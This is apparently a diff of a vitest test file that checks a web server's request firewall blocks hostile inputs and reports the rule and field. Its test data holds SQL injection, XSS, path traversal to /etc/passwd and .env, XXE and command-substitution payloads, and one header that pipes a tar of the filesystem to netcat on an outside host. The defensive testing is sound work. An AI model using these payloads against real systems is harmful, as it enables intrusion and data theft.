@@ -1,4 +1,4 @@
-/** The request firewall in front of everything (docs/api/firewall.md). Its rules are tried in platform/firewall; this is where they are asked. */
+/** The request firewall in front of the whole server (docs/api/firewall.md). Tests of its rules are in platform/firewall. */
 import { describe, expect, test } from 'vitest';
 import { startTestApp } from '../support/app.ts';
 import { expectError } from '../support/expect-answer.ts';
@@ -14,40 +14,64 @@ const TITLE = `O'Brien & Sons -- "select" terms <draft>; drop by`;
 const SQL = "' OR '1'='1";
 const path = '/api/documents/paginated';
 
-describe('403', () => {
+describe('blocks with 403 and names the rule and the field', () => {
   test.each([
-    ['a path', '/api/documents/..%2f..%2fetc%2fpasswd', 'path-traversal'],
-    ['an address that leads nowhere', '/nothing/.git/config', 'path-hidden'],
-    ['an address that cannot be decoded', '/api/documents/%c0%ae%c0%ae%c0%af%ff', 'encoding-overlong'],
-    ['a page of the app', '/app/documents?x=%3Cscript%3Ealert(1)%3C/script%3E', 'script-tag'],
-    ['an id in another form', `/api/documents/${encodeURIComponent(SQL)}`, 'sql-breakout'],
-    ['a parameter that programs name', `${path}?sortBy=${encodeURIComponent('$(id)')}`, 'command-substitution'],
-    ['a parameter encoded twice', `${path}?sortBy=%2527`, 'encoding-double'],
-    ['what people search for', `${path}?search=${encodeURIComponent(SQL)}`, 'sql-breakout'],
-    ['the name of a parameter', `${path}?__proto__[admin]=1`, 'operator-key'],
-  ])('%s', async (_, address, ruleId) => {
-    expectError(await app.key.get(address), 'REQUEST_BLOCKED', { ruleId });
+    ['a path', '/api/documents/..%2f..%2fetc%2fpasswd', 'path-traversal', 'path'],
+    ['an address that leads nowhere', '/nothing/.git/config', 'path-hidden', 'path'],
+    ['a file of the system', '/etc/./passwd', 'path-hidden', 'path'],
+    ['a file of the environment', '/app/.env', 'path-hidden', 'path'],
+    ['an address that cannot be decoded', '/api/documents/%c0%ae%c0%ae%c0%af%ff', 'encoding-overlong', 'path'],
+    ['a page of the app', '/app/documents?x=%3Cscript%3Ealert(1)%3C/script%3E', 'script-tag', 'query.x'],
+    ['an id in another form', `/api/documents/${encodeURIComponent(SQL)}`, 'sql-breakout', 'path'],
+    ['a parameter', `${path}?sortBy=${encodeURIComponent('$(id)')}`, 'command-substitution', 'query.sortBy'],
+    ['a parameter in SQL', `${path}?sortBy='+UNION+SELECT+1,2,3--+`, 'sql-union', 'query.sortBy'],
+    ['a parameter that is a path', `${path}?sortBy=.../.../win.ini`, 'path-traversal', 'query.sortBy'],
+    ['a parameter encoded twice', `${path}?sortBy=%2527`, 'encoding-double', 'query.sortBy'],
+    ['a complete attack in a search', `${path}?search=${encodeURIComponent(SQL)}`, 'sql-breakout', 'query.search'],
+    ['the name of a parameter', `${path}?where[$ne]=1`, 'operator-key', 'query'],
+  ])('%s', async (_, address, ruleId, field) => {
+    expectError(await app.key.get(address), 'REQUEST_BLOCKED', { ruleId, field });
+  });
+
+  test('a header with a command', async () => {
+    const answer = await app.key.get(path, { headers: { 'x-client-version': '; tar cf - / | nc host 80' } });
+    expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'command-chain', field: 'header.x-client-version' });
   });
 
   test.each([
-    ['a title', { title: SQL }, 'sql-breakout'],
-    ['the name of a member', { 'constructor[prototype]': 1 }, 'operator-key'],
-    ['a member that nobody asked for', { unknown: [{ deep: '{{7*7}}' }] }, 'template-expression'],
-  ])('%s in JSON, whoever asks', async (_, body, ruleId) => {
+    ['an e-mail address', { signers: [{ name: 'Ada', email: "ada'||(select 1)||'@example.com" }] }, 'sql-statement'],
+    ['an identifier', { signers: [], fields: [{ kind: 'text', page: 1, signer: '$(id)' }] }, 'command-substitution'],
+  ])('%s in JSON', async (_, body, ruleId) => {
     const { id } = await app.draft();
-    expectError(await app.key.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', { ruleId });
-    expectError(await app.anyone.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', { ruleId });
+    const answer = await app.key.send('POST', `/api/documents/${id}/send-for-signing`, { body });
+    expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body\./) });
   });
 
-  test('the title, the part and the file of a form', async () => {
+  test.each([
+    ['a title that is an attack', { title: '<script>alert(1)</script>' }, 'script-tag', 'body.title'],
+    ['the name of a member', { 'constructor[prototype]': 1 }, 'operator-key', 'body'],
+    ['a member that nobody asked for', { unknown: [{ deep: '{{7*7}}' }] }, 'template-expression', 'body'],
+  ])('%s, whoever asks', async (_, body, ruleId, field) => {
+    const { id } = await app.draft();
+    const found = { ruleId, field };
+    expectError(await app.key.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
+    expectError(await app.anyone.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
+  });
+
+  test('parts of a form: a value, a file name, the name of a part', async () => {
     const send = (body: Buffer) => app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
     const file = { name: 'file', filename: 'a.pdf', content: makePdf() };
-    expectError(await send(pdfUpload(makePdf(), { title: SQL })), 'REQUEST_BLOCKED', { ruleId: 'sql-breakout' });
-    expectError(await send(pdfUpload(makePdf(), {}, 'a;$(id).pdf')), 'REQUEST_BLOCKED', {
-      ruleId: 'command-substitution',
+    expectError(await send(pdfUpload(makePdf(), { title: SQL })), 'REQUEST_BLOCKED', {
+      ruleId: 'sql-breakout',
+      field: 'body.title',
+    });
+    expectError(await send(pdfUpload(makePdf(), {}, 'a.pdf::$DATA')), 'REQUEST_BLOCKED', {
+      ruleId: 'path-traversal',
+      field: 'file-name',
     });
     expectError(await send(multipart([{ name: '$where', content: '1' }, file])), 'REQUEST_BLOCKED', {
       ruleId: 'operator-key',
+      field: 'part-name',
     });
   });
 
@@ -59,11 +83,73 @@ describe('403', () => {
     'zgrab/0.x',
   ])('the agent %s', async (agent) => {
     const answer = await app.anyone.send('GET', '/api/health', { headers: { 'user-agent': agent } });
-    expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'scanner-agent' });
+    expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'scanner-agent', field: 'header.user-agent' });
     expect(answer.headers.get('x-request-id')).toMatch(/^req_/);
     expect(answer.headers.get('x-ratelimit-limit')).not.toBeNull();
     expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
   });
+});
+
+describe('a body that was sent to an unknown address', () => {
+  const form = { 'content-type': 'application/x-www-form-urlencoded' };
+  const xml = { 'content-type': 'application/xml' };
+
+  test.each([
+    ['JSON', JSON.stringify({ user: { name: "admin' or 1=1 --" } }), {}, 'sql-breakout'],
+    ['a form', 'log=admin&pwd=%3Cscript%3Ealert(1)%3C%2Fscript%3E', form, 'script-tag'],
+    [
+      'XML',
+      '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>',
+      xml,
+      'script-element',
+    ],
+    ['JSON with an error', '{"cmd": "; ping 10.0.0.1", ', {}, 'command-chain'],
+    ['JSON at a known address with another method', JSON.stringify({ a: '$(id)' }), {}, 'command-substitution'],
+  ])('is blocked: %s', async (kind, text, headers, ruleId) => {
+    const address = kind.includes('known') ? '/api/documents/paginated' : '/xmlrpc';
+    const method = kind.includes('known') ? 'PUT' : 'POST';
+    const type = { 'content-type': 'application/json', ...headers };
+    const answer = await app.anyone.send(method, address, { body: Buffer.from(text), headers: type });
+    expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^(body|query\.pwd)/) });
+  });
+
+  test('is answered with 404 when it is honest, long or of any type', async () => {
+    for (const [body, type] of [
+      [Buffer.from('{"name":"Ada"}'), 'application/json'],
+      [Buffer.from('name=Ada&city=London'), 'application/x-www-form-urlencoded'],
+      [Buffer.alloc(300_000, 'a'), 'application/octet-stream'],
+    ] as const)
+      expectError(await app.anyone.send('POST', '/nowhere', { body, headers: { 'content-type': type } }), 'NOT_FOUND');
+  });
+});
+
+test('leaves a text to the contract that is longer than the contract allows, and spends no time on it', async () => {
+  const body = { email: '\r\n'.repeat(500_000), password: 'a password of somebody' };
+  const began = process.cpuUsage();
+  const answer = await app.anyone.send('POST', '/api/auth/login', { body });
+  const { user } = process.cpuUsage(began);
+  expect(answer).toMatchObject({ status: 422, body: { error: { field: 'email' } } });
+  expect(user / 1000, 'milliseconds of CPU time, 14,000 before').toBeLessThan(1000);
+});
+
+test('blocks more text in strict places than any program sends', async () => {
+  const { id } = await app.draft();
+  const unknown = Array.from({ length: 9_000 }, (_, n) => `some value ${n}`);
+  const answer = await app.key.send('PATCH', `/api/documents/${id}`, { body: { unknown } });
+  expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'too-complex', field: 'body' });
+});
+
+test.each([
+  '.NET & Node.js; Next.js',
+  'See ../../Schedule 2',
+  'alert(ed)',
+  'SELECT * FROM t;',
+  '{{7*7}} template note',
+])('stores the title %s, and finds it again', async (title) => {
+  const { id } = await app.draft({ title });
+  const found = await app.key.get<'listDocuments'>(`${path}?search=${encodeURIComponent(title)}`);
+  expect(found.body.documents.map((one) => one.id)).toContain(id);
+  expect((await app.key.get(`${path}?search=${encodeURIComponent("' OR 1=1")}`)).status).toBe(200);
 });
 
 test('a title that looks hostile goes the whole way: template, upload, send, sign, verify, search, webhook', async () => {
@@ -104,23 +190,21 @@ test('detects without blocking, and lets exceptions pass, as the operator has se
   );
   expect(detecting.lines.join('\n'), 'what was found stays out of the log').not.toContain(SQL);
   const excepting = await startTestApp({
-    firewall: { mode: 'block', exceptions: [{ ruleId: 'template-expression', field: 'query.search' }] },
+    firewall: { mode: 'block', exceptions: [{ ruleId: 'sql-breakout', field: 'query.search' }] },
   });
-  expect((await excepting.key.get(`${path}?search=${encodeURIComponent('{{7*7}}')}`)).status).toBe(200);
+  expect((await excepting.key.get(`${path}?search=${encodeURIComponent(SQL)}`)).status).toBe(200);
   const { id } = await excepting.draft();
-  expectError(
-    await excepting.key.send('PATCH', `/api/documents/${id}`, { body: { title: '{{7*7}}' } }),
-    'REQUEST_BLOCKED',
-    {
-      ruleId: 'template-expression',
-    },
-  );
+  expectError(await excepting.key.send('PATCH', `/api/documents/${id}`, { body: { title: SQL } }), 'REQUEST_BLOCKED', {
+    ruleId: 'sql-breakout',
+    field: 'body.title',
+  });
 });
 
 test('refuses the 101st block of an address within the hour with 429', async () => {
   const blocking = await startTestApp();
   const ask = () => blocking.anyone.get(`${path}?sortBy=${encodeURIComponent('$(id)')}`);
-  for (let i = 0; i < 100; i += 1) expectError(await ask(), 'REQUEST_BLOCKED', { ruleId: 'command-substitution' });
+  const found = { ruleId: 'command-substitution', field: 'query.sortBy' };
+  for (let i = 0; i < 100; i += 1) expectError(await ask(), 'REQUEST_BLOCKED', found);
   const refused = await ask();
   expectError(refused, 'RATE_LIMIT_EXCEEDED', { limit: 100, retryAfterSeconds: expect.any(Number) });
   expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
